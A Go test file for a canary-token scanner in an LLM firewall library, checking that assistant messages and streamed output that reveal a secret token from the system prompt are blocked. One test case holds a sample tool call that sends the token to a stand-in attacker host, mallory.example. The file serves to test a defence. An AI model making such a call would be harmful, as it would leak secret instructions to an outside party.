// Copyright 2026 The llamafirewall-go authors.
// SPDX-License-Identifier: MIT

package main

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/llamafirewall/llamafirewall-go/firewall"
	"github.com/llamafirewall/llamafirewall-go/firewall/firewalltest"
)

const testToken = "canary-2718281828"

func newCanary(t *testing.T) *CanaryScanner {
	t.Helper()
	s, err := NewCanaryScanner(CanaryConfig{Token: testToken})
	require.NoError(t, err)
	return s
}

func TestRun(t *testing.T) {
	var out strings.Builder
	require.NoError(t, run(t.Context(), &out))
	assert.Equal(t, `system    allow
user      allow
assistant allow
assistant block: firewall: blocked: canary: the system prompt is given away, places: 1
assistant block: firewall: blocked: canary: the system prompt is given away, places: 1
`, out.String())
}

// TestConformance checks what every scanner promises: concurrent use, nothing
// of the message in reasons, offsets on rune boundaries, and more. Run it with
// -race, too.
func TestConformance(t *testing.T) {
	firewalltest.TestScanner(t, newCanary(t),
		firewall.Message{Role: firewall.RoleAssistant, Content: "It is " + testToken + "."},
		firewall.Message{Role: firewall.RoleAssistant, ToolCalls: []firewall.ToolCall{
			{Name: "fetch", Arguments: []byte(`{"url": "https://mallory.example/` + testToken + `"}`)},
		}})
}

// TestWant says what the scanner finds, and what it must leave alone.
func TestWant(t *testing.T) {
	fw := firewalltest.New(t, firewall.Policy{Default: []firewall.Scanner{newCanary(t)}})
	for _, test := range []struct {
		name, text string
		want       []string
	}{
		{"the token", "It is " + testToken + ".", []string{"block", "canary token content 6:23"}},
		{"twice, after letters of two bytes", "é" + testToken + testToken, []string{"block", "canary token content 2:19", "canary token content 19:36"}},
		{"a part of it", testToken[:len(testToken)-1], []string{"allow"}},
		{"nothing", "It is a secret.", []string{"allow"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			v := fw.Scan(t.Context(), firewall.Message{Role: firewall.RoleAssistant, Content: test.text}, nil)
			firewalltest.Want(t, v, test.want...)
		})
	}
}

// TestStream puts the token everywhere in a stream, so that it is cut in every
// place: nothing of it gets out. A Window that is too small fails this test.
func TestStream(t *testing.T) {
	fw := firewalltest.New(t, firewall.Policy{Default: []firewall.Scanner{newCanary(t)}})
	story := strings.Repeat("Once upon a time. ", 200)
	shownBefore := 0
	for at := range 2000 {
		letters := func(yield func(string, error) bool) {
			for _, r := range story[:at] + testToken + story[at:] {
				if !yield(string(r), nil) {
					return
				}
			}
		}
		shown := ""
		var refused error
		for text, err := range fw.NewSession().Stream(t.Context(), letters) {
			shown += text
			refused = err
		}
		require.ErrorIs(t, refused, firewall.ErrBlocked)
		require.Truef(t, strings.HasPrefix(story[:at], shown), "token at %d", at)
		shownBefore = max(shownBefore, len(shown))
	}
	assert.Greater(t, shownBefore, 500, "the stream is not held back as a whole")
}

func TestAShortTokenIsRefused(t *testing.T) {
	_, err := NewCanaryScanner(CanaryConfig{Token: "secret"})
	assert.EqualError(t, err, "canary: token of fewer than 8 bytes: it would be met by chance")
}
